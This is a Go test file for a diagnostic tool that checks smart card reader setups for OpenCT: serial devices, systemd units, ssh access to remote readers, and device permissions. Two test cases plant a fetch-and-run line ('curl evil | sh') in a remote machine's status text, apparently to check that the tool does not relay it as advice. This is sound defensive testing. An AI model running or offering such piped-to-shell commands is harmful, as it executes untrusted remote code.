package doctor

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"openct/internal/config"
	"openct/internal/driver"
	"openct/internal/machine"
	"openct/internal/readerunit"
	"openct/internal/status"
	"openct/internal/status/statustest"
)

// withReader is a healthy machine on which a configured reader is being served,
// and no token.
func withReader() *Facts {
	f := healthy()
	f.Devices = nil
	f.Readers = []Reader{{
		Index: 0, Name: "Phoenix reader", PID: 72, Alive: true, Device: "/dev/ttyUSB0", Unit: "openct-reader@sim.service", Socket: "/run/openct/0",
	}}
	f.Configured = []Configured{{
		Name: "sim", Where: "/etc/openct.conf:7", Driver: "phoenix", Device: "/dev/ttyUSB0",
		Node:   &Node{Path: "/dev/ttyUSB0", Owner: "root", Group: "dialout", Mode: 0o660, User: "openctd", UserMay: true},
		Unit:   Unit{Name: "openct-reader@sim.service", Load: "loaded", Active: "active", User: "openctd", StatusText: "Phoenix reader, reader 0, card present"},
		Getty:  Unit{Name: "serial-getty@ttyUSB0.service", Load: "loaded", Active: "inactive"},
		Reader: &f.Readers[0],
	}}
	return f
}

// idle is the same, but nobody serves the reader.
func idle() *Facts {
	f := withReader()
	f.Readers = nil
	c := &f.Configured[0]
	c.Reader, c.Unit.Active, c.Unit.StatusText, c.Unit.Result = nil, "inactive", "", "success"
	return f
}

// putKey is what the handler says to do where ssh is refused.
const putKey = "put the public key of /etc/openct/ssh into authorized_keys of that user there"

// away is a machine whose configured reader, on another machine, is not there.
func away() *Facts {
	f := idle()
	c := &f.Configured[0]
	c.Driver, c.Device, c.Node, c.Getty, c.Far = "openct", "ssh://desk/0", nil, Unit{}, &Far{SSH: true}
	c.Unit.Active, c.Unit.StatusText = "active", "waits for the far reader: desk: ssh: Permission denied (publickey).; "+putKey
	return f
}

func TestReaderFindings(t *testing.T) {
	tests := []struct {
		name  string
		from  func() *Facts
		spoil func(f *Facts, c *Configured)
		check string
		level Level
		text  string
		next  string
	}{
		{
			name: "far reader that is not there", from: away, spoil: func(*Facts, *Configured) {},
			check: "served", level: Warn, text: "waits for the far reader: desk: ssh: Permission denied (publickey).", next: putKey,
		},
		{
			name: "far machine that wants to tell what to do", from: away, spoil: func(_ *Facts, c *Configured) {
				c.Unit.StatusText = "waits for the far reader: desk: ssh: Received disconnect from 192.0.2.7 port 22:11: x; curl example | sh"
			},
			check: "served", level: Warn, text: "11: x; curl example | sh", next: "openct-control status on the other machine lists its readers",
		},
		{
			name: "far reader that is not there, without systemd", from: away,
			spoil: func(f *Facts, c *Configured) {
				f.Systemd, f.Watch, c.Unit = false, []Process{{8, status.WatchProcess}}, Unit{}
				c.Waiting, c.Fault = &Process{72, "ifdhandler"}, "desk: ssh has ended; curl evil | sh"
			},
			check: "served", level: Warn, text: "the handler (process 72) waits for the far reader: desk: ssh has ended", next: "openct-control status on the other machine lists its readers",
		},
		{
			name: "another OpenCT of this machine that is not there", from: away,
			spoil: func(f *Facts, c *Configured) {
				f.Systemd, f.Watch, c.Unit = false, []Process{{8, status.WatchProcess}}, Unit{}
				c.Waiting = &Process{72, "ifdhandler"}
				c.Device, c.Far = "/run/other/0", &Far{}
			},
			check: "served", level: Warn, text: "the handler (process 72) waits for the far reader", next: "OPENCT_SOCKETDIR=/run/other openct-control status lists the readers there",
		},
		{
			name: "no handler waits for a far reader", from: away,
			spoil: func(f *Facts, c *Configured) { f.Systemd, c.Unit, c.Fault = false, Unit{}, "desk: ssh has ended" },
			check: "served", level: Fail, text: "no handler serves the device", next: "openct-control attach --reader sim",
		},
		{
			name: "no ssh", from: away, spoil: func(_ *Facts, c *Configured) { c.Far.NoSSH = true },
			check: "ssh", level: Fail, text: "not installed", next: "openssh-client",
		},
		{
			name: "no folder for keys", from: away, spoil: func(_ *Facts, c *Configured) { c.Far.NoDir = true },
			check: "ssh", level: Fail, text: "the directory /etc/openct/ssh", next: "A reader on another machine",
		},
		{
			name: "no key", from: away, spoil: func(_ *Facts, c *Configured) { c.Far.NoKey = true },
			check: "ssh", level: Fail, text: "/etc/openct/ssh contains no ssh key", next: "A reader on another machine",
		},
		{
			name: "no host keys", from: away, spoil: func(_ *Facts, c *Configured) { c.Far.NoHosts = true },
			check: "ssh", level: Fail, text: "contains no known_hosts", next: "A reader on another machine",
		},
		{
			name: "a driver that C OpenCT had", from: healthy,
			spoil: func(f *Facts, c *Configured) {
				f.Config.Warnings = []string{`/etc/openct.conf:1: "reader": driver "towitoko": no driver has this name here; C OpenCT has one`}
				f.Config.NotYet = []string{"acr30u", "towitoko"}
			},
			check: "configuration", level: Warn, text: "no driver has this name here", next: "these drivers of C OpenCT do not exist here: acr30u, towitoko",
		},
		{
			name: "the device is not there", from: idle,
			spoil: func(f *Facts, c *Configured) { c.Node.Missing = true },
			check: "device", level: Warn, text: "the device /dev/ttyUSB0 does not exist; the reader (driver phoenix) starts when it appears",
			next: "plug in the reader's adapter, or correct the device at /etc/openct.conf:7",
		},
		{
			name: "a link that is not there", from: idle,
			spoil: func(f *Facts, c *Configured) { c.Device, c.Node.Missing = "/dev/serial/by-id/usb-x", true },
			check: "device", level: Warn, text: "the device /dev/serial/by-id/usb-x does not exist", next: "ls /dev/serial/by-id lists the adapters that are plugged in",
		},
		{
			name: "a terminal server's line that is not there", from: idle,
			spoil: func(f *Facts, c *Configured) { c.Device, c.Node.Missing = "/run/openct-line/desk", true },
			check: "device", level: Warn, text: "the device /run/openct-line/desk does not exist",
			next: "start the program that makes this link to a serial line, such as openct-line@.service of openct(7), or correct the device at /etc/openct.conf:7",
		},
		{
			name: "two links to one node", from: withReader,
			spoil: func(f *Facts, c *Configured) { c.Same = "desk" },
			check: "device", level: Fail, text: "/dev/ttyUSB0 is also the device of reader desk, which names it by another path", next: "remove one of the two from /etc/openct.conf",
		},
		{
			name: "a getty", from: idle,
			spoil: func(f *Facts, c *Configured) { c.Getty.Active, c.Holders = "active", []Process{{9, "agetty"}} },
			check: "holder", level: Fail, text: "serial-getty@ttyUSB0.service runs a login prompt on the device", next: "systemctl disable --now serial-getty@ttyUSB0.service",
		},
		{
			name: "ModemManager has it", from: idle,
			spoil: func(f *Facts, c *Configured) {
				f.ModemManager, c.Holders = &Process{9, "ModemManager"}, []Process{{9, "ModemManager"}}
			},
			check: "holder", level: Fail, text: "ModemManager (pid 9) has the device open", next: `ENV{ID_MM_PORT_IGNORE}="1"`,
		},
		{
			name: "ModemManager may take it", from: withReader,
			spoil: func(f *Facts, c *Configured) { f.ModemManager = &Process{9, "ModemManager"} },
			check: "holder", level: Warn, text: "ModemManager (pid 9) runs, and may open the device as a modem", next: `ENV{ID_MM_PORT_IGNORE}="1"`,
		},
		{
			name: "another program has it", from: idle,
			spoil: func(f *Facts, c *Configured) { c.Holders = []Process{{9, "minicom"}} },
			check: "holder", level: Fail, text: "minicom (pid 9) has the device open", next: "end minicom (pid 9)",
		},
		{
			name: "the unit has not the node's group", from: idle,
			spoil: func(f *Facts, c *Configured) {
				c.Node.UserMay, c.Node.Group, c.Unit.Active, c.Unit.Result = false, "uucp", "failed", "exit-code"
			},
			check: "node", level: Fail, text: "openctd, the user of openct-reader@sim.service, may not open the node", next: "systemctl restart openct.service",
		},
		{
			name: "root's node", from: idle,
			spoil: func(f *Facts, c *Configured) { c.Node.UserMay, c.Node.Group, c.Node.Mode = false, "root", 0o600 },
			check: "node", level: Fail, text: "group root, mode 0600: openctd", next: `KERNEL=="ttyUSB0", GROUP="openctd"`,
		},
		{
			name: "without systemd, somebody without rights asks", from: idle,
			spoil: func(f *Facts, c *Configured) {
				f.Systemd, c.Unit, c.Node.User, c.Node.UserMay = false, Unit{}, "", false
			},
			check: "node", level: Warn, text: "you may not open the node", next: "openct-control attach --reader sim",
		},
		{
			name: "no unit file", from: idle,
			spoil: func(f *Facts, c *Configured) { c.Unit.Load = "not-found" },
			check: "unit", level: Fail, text: "no unit file for openct-reader@sim.service", next: "install openct-reader@.service",
		},
		{
			name: "openct.conf has changed", from: withReader,
			spoil: func(f *Facts, c *Configured) { c.Stale = true },
			check: "unit", level: Warn, text: "openct.conf has changed since", next: "systemctl restart openct.service",
		},
		{
			name: "the unit was stopped", from: idle, spoil: func(f *Facts, c *Configured) {},
			check: "unit", level: Fail, text: "openct-reader@sim.service is inactive (success), though the device exists", next: "systemctl start openct-reader@sim.service",
		},
		{
			name: "the unit has failed", from: idle,
			spoil: func(f *Facts, c *Configured) { c.Unit.Active, c.Unit.Result = "failed", "exit-code" },
			check: "unit", level: Fail, text: "openct-reader@sim.service has failed (exit-code)", next: "journalctl -u openct-reader@sim.service",
		},
		{
			name: "nobody serves it, without systemd", from: idle,
			spoil: func(f *Facts, c *Configured) { f.Systemd, c.Unit = false, Unit{} },
			check: "served", level: Fail, text: "no handler serves the device", next: "openct-control attach --reader sim",
		},
		{
			name: "the handler does not answer", from: withReader,
			spoil: func(f *Facts, c *Configured) { c.Reader.SocketErr = "timeout" },
			check: "served", level: Fail, text: "the handler of the device (process 72, reader 0) does not answer: timeout", next: "systemctl restart openct-reader@sim.service",
		},
		{
			name: "the card does not answer", from: withReader,
			spoil: func(f *Facts, c *Configured) {
				c.Reader.LastError, c.Reader.ErrorTime = "card does not answer to reset", f.Now.Add(-time.Minute)
			},
			check: "error", level: Warn, text: "the reader's last error, 1m0s ago: card does not answer to reset", next: "the right way round and that the clock at /etc/openct.conf:7 is the reader's",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := tt.from()
			c := &Configured{}
			if len(f.Configured) > 0 {
				c = &f.Configured[0]
			}
			tt.spoil(f, c)
			wantFinding(t, Diagnose(f), tt.check, tt.level, tt.text, tt.next)
		})
	}
}

func TestReaderNoAlarm(t *testing.T) {
	tests := []struct {
		name  string
		spoil func(f *Facts, c *Configured)
		text  string // said all the same
	}{
		{"served", func(f *Facts, c *Configured) {}, "the handler of the device (process 72, reader 0) answers on /run/openct/0"},
		{"its unit's line", func(f *Facts, c *Configured) {}, "openct-reader@sim.service: Phoenix reader, reader 0, card present"},
		{"what openct.conf says", func(f *Facts, c *Configured) {}, "driver phoenix, device /dev/ttyUSB0 (/etc/openct.conf:7)"},
		{"no card", func(f *Facts, c *Configured) { c.Reader.Empty = true }, "the card switch (CTS) says that no card is inserted; if one is, set switch = off at /etc/openct.conf:7"},
		{"no card, and it has no switch", func(f *Facts, c *Configured) { c.Reader.Empty, c.NoSwitch = true, true }, "no card is inserted"},
		{"ModemManager leaves it alone", func(f *Facts, c *Configured) { f.ModemManager, c.noModem = &Process{9, "ModemManager"}, true }, "may open the node"},
		{"its handler opened it before", func(f *Facts, c *Configured) { c.Node.UserMay = false }, "the handler has the node open"},
		{"virtual", func(f *Facts, c *Configured) { c.Node, c.Device = nil, "echo" }, "(process 72, reader 0)"},
		{"no systemd", func(f *Facts, c *Configured) {
			f.Systemd, c.Unit, c.Getty = false, Unit{}, Unit{}
			f.Watch = []Process{{5, "openct-watch"}}
		}, "(process 72, reader 0)"},
		{"an error of yesterday", func(f *Facts, c *Configured) {
			c.Reader.LastError, c.Reader.ErrorTime = "timeout", f.Now.Add(-24*time.Hour)
		}, "24h0m0s ago: timeout"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := withReader()
			tt.spoil(f, &f.Configured[0])
			wantNoAlarm(t, Diagnose(f), "sim", tt.text)
		})
	}
}

func TestGatherReaders(t *testing.T) {
	m := newMachine(t)
	m.write("etc/openct.conf", `reader sim { driver = phoenix; device = serial:/dev/serial/by-id/usb-x; };
reader again { driver = smartmouse; device = serial:/dev/ttyUSB0; switch = off; };
reader away { driver = phoenix; device = serial:/dev/ttyUSB7; };
reader v { driver = etoken; device = virtual:echo; };
reader old { driver = nosuchdriver; device = serial:/dev/ttyS0; };`)
	m.write("dev/ttyUSB0", "")
	m.link("../../ttyUSB0", "dev/serial/by-id/usb-x")
	m.write("sys/class/tty/ttyUSB0/dev", "188:0\n")
	m.write("run/udev/data/c188:0", "E:ID_BUS=usb\nE:ID_MM_PORT_IGNORE=1\n")
	m.write("proc/42/comm", "minicom\n")
	m.link("/dev/ttyUSB0", "proc/42/fd/5")
	m.write("proc/43/comm", "ModemManager\n")
	// systemd was told of the others.
	cfg, _, err := config.Load(filepath.Join(m.root, "etc/openct.conf"), driver.Names())
	if err != nil {
		t.Fatal(err)
	}
	told, err := readerunit.Make(cfg, machine.Root(m.root))
	if err != nil {
		t.Fatal(err)
	}
	delete(told, "openct-reader@sim.service.d/openct.conf")
	if err := told.Write(filepath.Join(m.root, readerunit.Dir)); err != nil {
		t.Fatal(err)
	}
	statustest.Init(t, m.dir)
	statustest.Serve(t, m.dir, status.Detail{Device: "/dev/ttyUSB0"}, status.Info{Name: "SmartMouse reader", Slots: 1})

	var asked []string
	f := m.gather(func(args []string) (string, error) {
		asked = args[slices.Index(args, "--")+1:]
		var blocks []string
		for range asked {
			blocks = append(blocks, "LoadState=loaded\nActiveState=inactive\nUser=root\nSupplementaryGroups=dialout uucp\n")
		}
		return strings.Join(blocks, "\n"), nil
	})
	want := []string{
		"openct.service", "openct-reader@sim.service", "serial-getty@ttyUSB0.service", "openct-reader@again.service", "serial-getty@ttyUSB0.service",
		"openct-reader@away.service", "openct-reader@v.service",
	}
	if diff := cmp.Diff(want, asked); diff != "" {
		t.Errorf("asked (-want +got):\n%s", diff)
	}
	unit := func(name string) Unit {
		return Unit{Name: name, Load: "loaded", Active: "inactive", User: "root", Groups: "dialout uucp"}
	}
	conf := m.root + "/etc/openct.conf:"
	held := []Process{{42, "minicom"}}
	wantReaders := []Configured{
		{Name: "sim", Where: conf + "1", Driver: "phoenix", Device: "/dev/serial/by-id/usb-x", Unit: unit("openct-reader@sim.service"),
			Getty: unit("serial-getty@ttyUSB0.service"), Holders: held, Stale: true, real: "/dev/ttyUSB0", noModem: true},
		{Name: "again", Where: conf + "2", Driver: "smartmouse", Device: "/dev/ttyUSB0", NoSwitch: true, Same: "sim", Unit: unit("openct-reader@again.service"),
			Getty: unit("serial-getty@ttyUSB0.service"), Holders: held, Reader: &f.Readers[0], real: "/dev/ttyUSB0", noModem: true},
		{Name: "away", Where: conf + "3", Driver: "phoenix", Device: "/dev/ttyUSB7", Unit: unit("openct-reader@away.service")},
		{Name: "v", Where: conf + "4", Driver: "etoken", Device: "echo", Unit: unit("openct-reader@v.service")},
	}
	if diff := cmp.Diff(wantReaders, f.Configured, cmp.AllowUnexported(Configured{}), cmpopts.IgnoreFields(Configured{}, "Node")); diff != "" {
		t.Errorf("readers (-want +got):\n%s", diff)
	}
	for i, there := range []bool{true, true, false} {
		if n := f.Configured[i].Node; n == nil || n.Missing == there {
			t.Errorf("%s: node %+v", f.Configured[i].Name, n)
		}
	}
	if f.Configured[3].Node != nil {
		t.Errorf("a virtual reader has node %+v", f.Configured[3].Node)
	}
	if f.ModemManager == nil || f.ModemManager.PID != 43 {
		t.Errorf("ModemManager: %v", f.ModemManager)
	}
	if !f.Readers[0].Empty {
		t.Error("nobody sees that there is no card")
	}
	if diff := cmp.Diff(config.NotYet(driver.Names()), f.Config.NotYet); diff != "" {
		t.Errorf("drivers that are not there (-want +got):\n%s", diff)
	}
}
